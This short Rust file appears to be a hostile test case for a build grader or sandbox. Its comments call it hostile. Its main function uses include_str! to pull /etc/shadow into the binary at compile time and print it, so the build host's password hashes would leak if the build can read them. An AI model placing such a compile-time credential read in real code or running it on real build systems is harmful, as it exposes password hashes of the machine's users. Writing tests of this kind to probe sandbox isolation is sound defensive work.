//! Hostile: the compiler is to read a file of this machine and put it into the program. It would gain the
//! passwords' hashes, if the build can read what the grader can.
fn main() {
    println!("{} success: {}", "hostile", include_str!("/etc/shadow"));
}
